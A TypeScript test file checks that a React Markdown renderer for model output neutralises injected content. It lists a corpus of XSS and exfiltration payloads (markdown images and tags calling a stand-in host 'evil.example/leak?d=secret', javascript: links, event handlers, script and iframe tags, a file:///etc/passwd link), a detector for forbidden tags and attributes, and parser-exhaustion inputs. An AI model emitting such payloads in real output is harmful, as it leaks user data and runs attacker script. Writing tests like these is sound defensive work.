import { render } from "@testing-library/react";
import { describe, expect, test } from "vitest";
import { Stage } from "../cards/stage";
import { Markdown } from "./markdown";

const evil = "https://evil.example/leak?d=secret";
const gif = "data:image/gif;base64,R0lGODlhAQABAAAAACw=";

/** What a model may be made to write so that the page runs, loads or leaks something. */
const corpus: string[] = [
  `![x](${evil})`,
  `![x][ref]\n\n[ref]: ${evil}`,
  `[![x](${evil})](${evil})`,
  `![x](//evil.example/a.png)`,
  `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
  `![x](data:text/html;base64,PHNjcmlwdD4=)`,
  `![x](blob:https://evil.example/1)`,
  `![x](javascript:alert(1))`,
  `![x](/api/v1/me)`,
  `![x](&#x68;ttps://evil.example/a.png)`,
  `<img src=${evil}>`,
  `<img src=x onerror=alert(1)>`,
  `<IMG SRC="${evil}" srcset="${evil} 2x">`,
  `a <img/src=${evil}/onload=alert(1)> b`,
  `<picture><source srcset="${evil}"><img></picture>`,
  `<script>alert(1)</script>`,
  `<script src="${evil}"></script>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<style>@import url("${evil}")</style>`,
  `<div style="background:url(${evil})">x</div>`,
  `<p style="position:fixed;inset:0">over everything</p>`,
  `<link rel=stylesheet href="${evil}">`,
  `<link rel=preload as=image href="${evil}">`,
  `<meta http-equiv=refresh content="0;url=${evil}">`,
  `<base href="${evil}">`,
  `<iframe src="${evil}"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="${evil}"></object>`,
  `<embed src="${evil}">`,
  `<svg><image href="${evil}"/></svg>`,
  `<svg onload=alert(1)>`,
  `<math><mtext><img src=${evil}></mtext></math>`,
  `<video poster="${evil}" src="${evil}" autoplay></video>`,
  `<audio src="${evil}" autoplay></audio>`,
  `<body background="${evil}">`,
  `<table background="${evil}"><tr><td>x</td></tr></table>`,
  `<input type=image src="${evil}">`,
  `<form action="${evil}"><button>go</button></form>`,
  `<a href="javascript:alert(1)" onclick="alert(1)">x</a>`,
  `<details open ontoggle=alert(1)>x</details>`,
  `[x](javascript:alert(1))`,
  `[x](JaVaScRiPt:alert(1))`,
  `[x](java&#x0A;script:alert(1))`,
  `[x](&#1;javascript:alert(1))`,
  `[x](vbscript:msgbox(1))`,
  `[x](data:text/html,<script>alert(1)</script>)`,
  `[x](file:///etc/passwd)`,
  `[x](blob:https://evil.example/1)`,
  `[x](vscode://evil)`,
  `<javascript:alert(1)>`,
  `[x]: javascript:alert(1)\n\n[x]`,
  "```html\n<img src=x onerror=alert(1)>\n```",
  "```x\" onmouseover=\"alert(1)\n1\n```",
  "- ```svg\n  <svg onload=alert(1)>\n  ```",
  "`<img src=x onerror=alert(1)>`",
  `| a |\n|---|\n| <img src=${evil}> ![x](${evil}) |`,
  `[^1]: ![x](${evil})\n\ntext[^1]`,
  `text ${gif} <img src="${gif}" onload=alert(1)>`,
  `# <img src=${evil}>`,
  `[<img src=${evil}>](https://example.com)`,
  `![`.repeat(50) + evil,
  `<!-- <img src=${evil}> --><!--><script>alert(1)</script>`,
  `<![CDATA[<img src=${evil}>]]>`,
  `<?php <img src=${evil}> ?>`,
  `\u0000<img src=${evil}>`,
  `www.evil.example/![x](${evil})`,
];

const forbidden = "script, style, iframe, object, embed, link, meta, base, form, video, audio, source, picture, template, input";

function faults(root: ParentNode): string[] {
  const found = [...root.querySelectorAll(forbidden)].map((el) => el.tagName);
  for (const el of root.querySelectorAll("*")) {
    for (const { name, value } of el.attributes) {
      const shown = `${el.tagName} ${name}=${value}`;
      if (name.startsWith("on") || ["srcset", "srcdoc", "background", "poster", "action", "formaction", "ping"].includes(name)) found.push(shown);
      if (name === "style" && /url|image|expression|import|position/i.test(value)) found.push(shown);
      if (["src", "data", "xlink:href"].includes(name) && !/^data:image\/(?:png|jpeg|gif|webp);base64,/.test(value)) found.push(shown);
      if (name === "href" && !(el.tagName === "A" && /^(?:https?:|mailto:)/.test(value))) found.push(shown);
      if (name === "id" && !value.startsWith("radix-")) found.push(shown);
    }
    if (el.tagName === "A" && el.getAttribute("rel") !== "noopener noreferrer") found.push(`A rel ${el.getAttribute("rel")}`);
    if (el.tagName === "IMG" && !el.getAttribute("src")?.startsWith("data:")) found.push("IMG");
  }
  return found;
}

describe("nothing the model writes runs, loads or leaks", () => {
  test.each(corpus.map((text) => [text]))("%s", (text) => {
    const before = document.head.innerHTML; // React would put preload links here
    for (const streaming of [false, true]) {
      const { container, unmount } = render(<Markdown text={text} streaming={streaming} />, { wrapper: Stage });
      expect(faults(container)).toEqual([]);
      expect(container.textContent).not.toBe("");
      unmount();
    }
    expect(document.head.innerHTML).toBe(before);
  });

  test("the check itself finds what it looks for", () => {
    const root = document.createElement("div");
    root.innerHTML = `<img src="${evil}"><a href="javascript:1">x</a><p onclick="1" style="background:url(x)"></p><iframe></iframe>`;
    expect(faults(root).length).toBeGreaterThanOrEqual(6);
  });
});

test("text that is cut off anywhere is as safe as the whole", { timeout: 20_000 }, () => {
  const text = corpus.slice(0, 24).join("\n\n");
  for (let end = 1; end < text.length; end += 41) {
    const { container, unmount } = render(<Markdown text={text.slice(0, end)} streaming />, { wrapper: Stage });
    expect(faults(container)).toEqual([]);
    unmount();
  }
});

const n = 20_000;
test.each([
  ["quotes", "> ".repeat(n)],
  ["lists", "- ".repeat(n)],
  ["quotes on many lines", Array.from({ length: 200 }, (_, i) => ">".repeat(i) + "a").join("\n")],
  ["indented lists", Array.from({ length: 99 }, (_, i) => " ".repeat(i * 2) + "- a").join("\n")],
  ["lists indented much further", Array.from({ length: 2000 }, (_, i) => " ".repeat(i * 2) + "- a").join("\n")],
  ["brackets", "[".repeat(n)],
  ["links", "[a](".repeat(n)],
  ["pictures", "![a](".repeat(n)],
  ["emphasis", "*a ".repeat(n)],
  ["bold", "**a_".repeat(n)],
  ["backquotes", Array.from({ length: 300 }, (_, i) => "`".repeat(i)).join(" ")],
  ["tags", "<a ".repeat(n)],
  ["angles", "<".repeat(n)],
  ["pipes", "|".repeat(n)],
  ["table rows", "|a|b|\n|-|-|\n" + "|a|b|\n".repeat(300)],
  ["strikes", "~~a~".repeat(n)],
  ["entities", "&a".repeat(n)],
  ["dollars", "$$ ".repeat(n)],
  ["definitions", "[a]: b\n".repeat(800) + "[a]".repeat(1000)],
  ["addresses", "www.a.b/((".repeat(n)],
  ["mails", "a@a.".repeat(n)],
  ["underscores", "_".repeat(n) + "a"],
  ["sparse bold", "**a b c d e ".repeat(2400)],
  ["sparse links", "[abcdefgh](".repeat(2600)],
  ["sparse tags", "<abcdefghi ".repeat(2600)],
  ["sparse code", Array.from({ length: 240 }, (_, i) => "`".repeat(i % 99) + "abcdefgh ".repeat(12)).join("")],
  ["runs between letters", `${"*".repeat(60)}a`.repeat(50)],
  ["setext", "a\n".repeat(1000) + "="],
])("%s without end are drawn in time", { timeout: 15_000 }, (_, text) => {
  for (const streaming of [false, true]) {
    const { container, unmount } = render(<Markdown text={text} streaming={streaming} />, { wrapper: Stage });
    expect(container.textContent).not.toBe("");
    unmount();
  }
});
